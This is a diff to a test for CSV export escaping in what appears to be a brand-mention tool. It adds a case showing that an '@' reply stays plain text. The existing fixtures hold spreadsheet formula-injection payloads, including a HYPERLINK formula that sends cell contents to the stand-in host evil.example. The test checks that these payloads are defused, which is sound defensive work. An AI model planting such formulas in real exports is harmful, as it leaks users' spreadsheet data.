@@ -334,11 +334,12 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_numbers_k
     now = datetime.now(timezone.utc)
     path = seed(tmp_path / "csv.db", [mention(1, '=HYPERLINK("http://evil.example/?x="&A1,"click")', now, "negative"),
                                       mention(2, "@SUM(1+1)*cmd", now, "negative"),
-                                      mention(3, "plain = fine", now, "negative")])
+                                      mention(3, "plain = fine", now, "negative"),
+                                      mention(4, "@PinebrookCoffee you charged me twice", now, "negative")])
 
     out = invoke("--db", path, "export", "--format", "csv", "--columns", "external_id,text,score").stdout
 
     rows = list(csv.DictReader(io.StringIO(out)))
     assert [r["text"] for r in rows] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(1+1)*cmd",
-                                         "plain = fine"]
+                                         "plain = fine", "@PinebrookCoffee you charged me twice"]  # a reply: text
     assert all(float(r["score"]) < 0 for r in rows)  # a negative number is a number, not a formula
